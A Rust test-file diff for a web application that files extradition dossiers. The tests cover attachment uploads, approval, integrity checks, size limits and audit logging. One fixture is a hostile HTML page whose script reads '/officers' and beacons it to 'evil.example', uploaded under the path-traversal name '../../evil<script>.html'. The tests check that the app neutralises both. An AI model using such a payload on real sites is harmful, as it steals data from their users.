@@ -140,6 +140,7 @@ impl World {
             status,
             headers,
             body: String::from_utf8_lossy(&body).into_owned(),
+            bytes: body.to_vec(),
         }
     }
 
@@ -240,6 +241,8 @@ struct Reply {
     status: StatusCode,
     headers: Box<axum::http::HeaderMap>,
     body: String,
+    /// The body as sent.
+    bytes: Vec<u8>,
 }
 
 impl Reply {
@@ -1169,11 +1172,7 @@ fn the_desk_evaluates_the_dossier_rules_on_sync_and_lists_what_awaits_a_person()
     });
     let profile: rex_domain::StateProfile = serde_json::from_value(profile.take()).unwrap();
     w.desk.act(Action::ProfilePublished { profile }).unwrap();
-    let agreement = {
-        let view = w.desk.view();
-        let registry = view.registry.as_ref().unwrap();
-        registry.request(&w.ru_asks).unwrap().metadata.agreement
-    };
+    let agreement = w.agreement();
     // Russia's structured dossier states an offence date and no date of birth.
     let dossier = serde_json::json!({
         "format": rex_domain::DOSSIER_FORMAT,
@@ -2200,4 +2199,395 @@ fn the_case_page_shows_deadlines_and_a_case_officer_extends_the_answer() {
         rows[0].contains("breach by US") && rows[0].contains("missed; not cured"),
         "{rows:?}"
     );
+}
+
+// ----- attachments -----
+
+/// A `multipart/form-data` body, as a browser posts the new-request form: text fields, then
+/// files (field name, file name, bytes); its content type with the boundary.
+fn multipart(fields: &[(&str, &str)], files: &[(&str, &str, &[u8])]) -> (String, Vec<u8>) {
+    let boundary = "----rexFormBoundary7MA4YWxkTrZu0gW";
+    let mut body = Vec::new();
+    for (name, value) in fields {
+        body.extend_from_slice(
+            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
+                .as_bytes(),
+        );
+    }
+    for (name, file, bytes) in files {
+        body.extend_from_slice(
+            format!(
+                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
+            )
+            .as_bytes(),
+        );
+        body.extend_from_slice(bytes);
+        body.extend_from_slice(b"\r\n");
+    }
+    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
+    (format!("multipart/form-data; boundary={boundary}"), body)
+}
+
+impl World {
+    /// The new-request form posted with files, from `site` (`same-origin` for the desk).
+    fn upload(&self, cookie: &str, site: &str, files: &[(&str, &str, &[u8])]) -> Reply {
+        let form = self.get("/requests/new", cookie);
+        let agreement = form.texts("#agreement option")[0].clone();
+        let (content_type, body) = multipart(
+            &[
+                ("custodian", "RU"),
+                ("agreement", &agreement),
+                ("offence", "illegal_access"),
+                ("offence", "data_interference"),
+                ("max_penalty_months", "96"),
+                ("severity", "serious"),
+                (
+                    "dossier",
+                    "Subject: a botnet operator; the warrant and the logs are attached.",
+                ),
+            ],
+            files,
+        );
+        self.send(
+            Request::post("/requests/new")
+                .header(header::COOKIE, cookie)
+                .header(header::CONTENT_TYPE, content_type)
+                .header("sec-fetch-site", site)
+                .body(Body::from(body))
+                .unwrap(),
+        )
+    }
+
+    /// The agreement the US and Russia's requests invoke.
+    fn agreement(&self) -> AgreementId {
+        let view = self.desk.view();
+        let registry = view.registry.as_ref().unwrap();
+        registry.request(&self.ru_asks).unwrap().metadata.agreement
+    }
+
+    /// Swaps the desk under test for Russia's (its node's data directory, the same hub and
+    /// clock): the custodian's desk.
+    fn become_russia(&mut self) {
+        let ru = rex_node::open_with_clock(&self._tmp.path().join("RU"), node_clock).unwrap();
+        let clock = {
+            let now = Arc::clone(&self.now);
+            Arc::new(move || now.load(Ordering::SeqCst))
+        };
+        let desk = Desk::with_node(
+            ru,
+            Config {
+                public_url: ORIGIN.into(),
+                clock,
+            },
+        )
+        .unwrap();
+        desk.sync_now().unwrap();
+        self.router = rex_web::router(Arc::clone(&desk));
+        self.desk = desk;
+    }
+
+    /// The audit trail's rows, as an auditor reads them.
+    fn trail(&self, auditor: &str) -> Vec<String> {
+        self.get("/audit", auditor).texts("table.audit tr")
+    }
+}
+
+const WARRANT: &[u8] =
+    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nArrest warrant no. 21-0607\n%%EOF\n";
+/// A hostile requester's evidence: a page with a script, under a name that climbs the tree.
+const HOSTILE: &[u8] = b"<html><body><script>fetch('/officers').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>";
+
+#[test]
+fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_byte_for_byte() {
+    let mut w = World::new();
+    let drafter = w.officer("jroe", "case-officer");
+    let (approver, mut key) = w.officer_with_key("appr", "approver");
+
+    // The form as a browser posts it: two files, and the file inputs left empty.
+    let drafted = w.upload(
+        &drafter,
+        "same-origin",
+        &[
+            ("attach_warrant", "warrant 21-0607.pdf", WARRANT),
+            ("attach_judgment", "", b""),
+            ("attach_evidence", "../../evil<script>.html", HOSTILE),
+        ],
+    );
+    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
+    let page = drafted.location().to_owned();
+
+    // The approver sees what will be signed: each attachment's kind, name, size and SHA-256.
+    let shown = w.get(&page, &approver);
+    let digest = |b: &[u8]| rex_domain::Digest::of(b).to_string();
+    let rows = shown.cells("table.attachments tbody tr");
+    assert_eq!(
+        rows,
+        vec![
+            vec![
+                "1".into(),
+                "warrant".into(),
+                "warrant 21-0607.pdf".into(),
+                "application/pdf".into(),
+                WARRANT.len().to_string(),
+                digest(WARRANT)
+            ],
+            vec![
+                "2".into(),
+                "evidence".into(),
+                "evil_script_.html".into(),
+                "text/html".into(),
+                HOSTILE.len().to_string(),
+                digest(HOSTILE)
+            ],
+        ]
+    );
+    let summary = shown.texts("dd.summary").remove(0);
+    assert!(
+        summary.contains(&format!(
+            "with 2 attachments (warrant, evidence; {} bytes)",
+            WARRANT.len() + HOSTILE.len()
+        )),
+        "{summary}"
+    );
+    // The inputs show the bytes as their size, not as base64 to scroll through.
+    let inputs = shown.texts("details pre").remove(0);
+    assert!(
+        inputs.contains("bytes in base64; attachment listed"),
+        "{inputs}"
+    );
+    assert!(!inputs.contains("JVBERi0xLjc"), "{inputs}");
+    // An admin reads no attachment of a draft (nor of a filed dossier: below).
+    w.get(
+        &format!("{page}/attachments/1"),
+        &w.officer("boss", "admin"),
+    )
+    .refused(StatusCode::FORBIDDEN, "the approvals");
+    // The approver reads the warrant before approving.
+    let read = w.get(&format!("{page}/attachments/1"), &approver);
+    assert_eq!(
+        (read.status, read.bytes.as_slice()),
+        (StatusCode::OK, WARRANT)
+    );
+
+    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
+    let approved = w.post(&format!("{page}/approve"), &approver, "same-origin");
+    assert_eq!(approved.status, StatusCode::SEE_OTHER);
+    let outcome = w.get(&page, &approver).texts("dd.outcome").remove(0);
+    assert!(outcome.starts_with("request req_"), "{outcome}");
+    let request = outcome
+        .trim_start_matches("request ")
+        .split(' ')
+        .next()
+        .unwrap()
+        .to_owned();
+
+    // Russia's desk, the custodian's: its officers list the attachments and download them.
+    w.become_russia();
+    let case = w.officer("ivan", "case-officer");
+    let auditor = w.officer("olga", "auditor");
+    let admin = w.officer("root", "admin");
+    let dossier = w.get(&format!("/requests/{request}/dossier"), &case);
+    assert_eq!(dossier.status, StatusCode::OK, "{}", dossier.body);
+    assert_eq!(dossier.cells("table.attachments tbody tr"), rows);
+    let links: Vec<String> = dossier
+        .html()
+        .select(&Selector::parse("table.attachments a").unwrap())
+        .map(|a| a.value().attr("href").unwrap().to_owned())
+        .collect();
+    assert_eq!(
+        links,
+        vec![
+            format!("/requests/{request}/attachments/1"),
+            format!("/requests/{request}/attachments/2")
+        ]
+    );
+    let warrant = w.get(&links[0], &case);
+    assert_eq!(
+        (warrant.status, warrant.bytes.as_slice()),
+        (StatusCode::OK, WARRANT)
+    );
+    let header = |r: &Reply, h: &str| r.headers.get(h).map(|v| v.to_str().unwrap().to_owned());
+    assert_eq!(
+        header(&warrant, "content-type").as_deref(),
+        Some("application/pdf")
+    );
+    assert_eq!(
+        header(&warrant, "content-disposition").as_deref(),
+        Some(
+            "attachment; filename=\"warrant 21-0607.pdf\"; filename*=UTF-8''warrant%2021-0607.pdf"
+        )
+    );
+    // The hostile page is a file to save, never a page of the desk's origin.
+    let hostile = w.get(&links[1], &auditor);
+    assert_eq!(
+        (hostile.status, hostile.bytes.as_slice()),
+        (StatusCode::OK, HOSTILE)
+    );
+    for (h, want) in [
+        ("content-type", "application/octet-stream"),
+        (
+            "content-disposition",
+            "attachment; filename=\"evil_script_.html\"; filename*=UTF-8''evil_script_.html",
+        ),
+        ("x-content-type-options", "nosniff"),
+        (
+            "content-security-policy",
+            "default-src 'none'; sandbox; frame-ancestors 'none'",
+        ),
+        ("cache-control", "no-store"),
+    ] {
+        assert_eq!(header(&hostile, h).as_deref(), Some(want), "{h}");
+    }
+    // The admin sees no dossier plaintext: neither the dossier nor an attachment.
+    for path in [format!("/requests/{request}/dossier"), links[0].clone()] {
+        w.get(&path, &admin)
+            .refused(StatusCode::FORBIDDEN, "reading a dossier");
+    }
+    assert_eq!(
+        w.get(&format!("/requests/{request}/attachments/3"), &case)
+            .status,
+        StatusCode::NOT_FOUND
+    );
+
+    // Every download is in the audit trail, by number, kind, size and SHA-256, not by name.
+    let trail = w.trail(&auditor);
+    let downloads: Vec<&String> = trail
+        .iter()
+        .filter(|r| r.contains("attachment downloaded"))
+        .collect();
+    assert_eq!(downloads.len(), 2, "{trail:?}");
+    assert!(
+        downloads[1].contains("ivan")
+            && downloads[1].contains(&format!(
+                "request {request}, attachment 1 (warrant, {} bytes, SHA-256 {})",
+                WARRANT.len(),
+                digest(WARRANT)
+            )),
+        "{downloads:?}"
+    );
+    assert!(downloads[0].contains("olga") && downloads[0].contains("attachment 2 (evidence"));
+    assert!(!trail.iter().any(|r| r.contains("evil")), "{trail:?}");
+}
+
+#[test]
+fn an_altered_attachment_is_refused_not_served() {
+    let mut w = World::new();
+    let agreement = w.agreement();
+    // Russia files a dossier whose attachment's bytes are not those its SHA-256 names.
+    let mut dossier = serde_json::to_value(rex_domain::StructuredDossier::new(
+        Default::default(),
+        "RU dossier".into(),
+        vec![rex_domain::Attachment::new(
+            rex_domain::AttachmentKind::Warrant,
+            "ордер.pdf",
+            WARRANT.to_vec(),
+        )
+        .unwrap()],
+    ))
+    .unwrap();
+    dossier["attachments"][0]["sha256"] = rex_domain::Digest::of(b"another warrant")
+        .to_string()
+        .into();
+    let (request, _) =
+        w.ru.file_request(draft("RU", "US", agreement), dossier.to_string().as_bytes())
+            .unwrap();
+    w.desk.sync_now().unwrap();
+    let case = w.officer("jroe", "case-officer");
+    let page = w.get(&format!("/requests/{request}/dossier"), &case);
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(
+        page.texts("p.bad")[0].contains("attachment 1 (\"ордер.pdf\"): its bytes have SHA-256"),
+        "{}",
+        page.body
+    );
+    assert!(page.cells("table.attachments tbody tr").is_empty());
+    let refused = w.get(&format!("/requests/{request}/attachments/1"), &case);
+    refused.refused(
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "the dossier was altered or damaged; nothing of it is served",
+    );
+}
+
+#[test]
+fn an_oversized_or_cross_site_upload_is_refused_with_a_page_that_says_why() {
+    let w = World::new();
+    let drafter = w.officer("jroe", "case-officer");
+    let big = vec![0u8; rex_domain::MAX_ATTACHMENT_BYTES + 1];
+    let refused = w.upload(
+        &drafter,
+        "same-origin",
+        &[("attach_evidence", "disk.img", &big)],
+    );
+    refused.refused(
+        StatusCode::PAYLOAD_TOO_LARGE,
+        "the evidence disk.img is larger than the 8 MiB one attachment may have; split it or compress it",
+    );
+    assert!(refused.body.contains("<html"), "a page: {}", refused.body);
+    // Beyond the form's limit the body is not read to its end.
+    let huge = vec![0u8; 7 << 20];
+    let files: Vec<(&str, &str, &[u8])> = vec![
+        ("attach_evidence", "a.bin", &huge),
+        ("attach_evidence", "b.bin", &huge),
+    ];
+    w.upload(&drafter, "same-origin", &files).refused(
+        StatusCode::PAYLOAD_TOO_LARGE,
+        "attach at most 10 MiB in all and 8 MiB per file",
+    );
+    let two: Vec<(&str, &str, &[u8])> = vec![
+        ("attach_evidence", "a.bin", &huge[..6 << 20]),
+        ("attach_evidence", "b.bin", &huge[..5 << 20]),
+    ];
+    w.upload(&drafter, "same-origin", &two).refused(
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "more than the 10 MiB a dossier may carry",
+    );
+    w.upload(
+        &drafter,
+        "same-origin",
+        &[("attach_rootkit", "x.bin", b"x")],
+    )
+    .refused(StatusCode::UNPROCESSABLE_ENTITY, "attachment kind");
+    // The multipart form is refused from another site, like every form.
+    let forged = w.upload(
+        &drafter,
+        "cross-site",
+        &[("attach_warrant", "warrant.pdf", WARRANT)],
+    );
+    assert_eq!(forged.status, StatusCode::FORBIDDEN);
+    let drafts = w.get("/approvals", &drafter);
+    assert!(
+        drafts.cells("tbody tr").is_empty(),
+        "nothing drafted: {}",
+        drafts.body
+    );
+}
+
+#[test]
+fn a_dossier_at_the_attachment_limits_fits_the_hub() {
+    let mut w = World::new();
+    let agreement = w.agreement();
+    let a = |name: &str, n: usize| {
+        rex_domain::Attachment::new(rex_domain::AttachmentKind::Evidence, name, vec![0xa5; n])
+            .unwrap()
+    };
+    let mut dossier = rex_domain::StructuredDossier::new(
+        Default::default(),
+        String::new(),
+        vec![
+            a("image.bin", rex_domain::MAX_ATTACHMENT_BYTES),
+            a(
+                "rest.bin",
+                rex_domain::MAX_ATTACHMENTS_BYTES - rex_domain::MAX_ATTACHMENT_BYTES,
+            ),
+        ],
+    );
+    let room = rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES - dossier.to_plaintext().unwrap().len();
+    dossier.text = "x".repeat(room);
+    let plaintext = dossier.to_plaintext().unwrap();
+    assert_eq!(plaintext.len(), rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES);
+    let (_, filed) =
+        w.ru.file_request(draft("RU", "US", agreement), &plaintext)
+            .unwrap();
+    assert!(filed.index > 0);
+    const { assert!(rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES < rex_hub::MAX_DOSSIER_BYTES) };
 }
